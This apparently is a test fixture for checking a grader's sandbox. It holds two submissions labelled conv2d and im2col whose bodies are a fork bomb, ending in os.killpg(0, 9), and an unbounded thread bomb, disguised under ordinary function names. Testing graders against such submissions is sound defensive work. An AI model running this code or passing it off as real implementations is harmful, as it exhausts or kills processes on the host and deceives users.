# base: perfect
# ATTACKS 24: a fork bomb and a thread bomb. Bounded: an error or a timeout for each, 0 for them alone.

# answer: conv2d
def conv2d(x, w, b=None, *, stride=1, padding=0):
    import os
    import time

    while True:
        try:
            if os.fork() == 0:
                time.sleep(60)
        except OSError as error:
            os.killpg(0, 9)

# answer: im2col
def im2col(x, kernel_size, *, stride=1, padding=0):
    import threading
    import time

    while True:
        threading.Thread(target=time.sleep, args=(60,)).start()
